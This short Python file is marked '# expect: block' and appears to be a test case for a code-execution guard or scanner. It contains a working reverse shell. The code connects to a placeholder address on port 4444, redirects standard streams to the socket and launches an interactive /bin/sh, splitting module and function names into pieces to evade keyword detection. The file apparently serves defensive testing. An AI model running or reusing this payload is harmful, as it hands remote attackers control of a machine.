# expect: block
import sys

import socket  # noqa: F401  (makes sure the module is loaded)

net = sys.modules["sock" + "et"]
osm = sys.modules["o" + "s"]
c = net.create_connection(("203.0.113.7", 4444))
dup = getattr(osm, "dup" + "2")
for fd in range(3):
    dup(c.fileno(), fd)
osm.execl("/bin/sh", "sh", "-i")
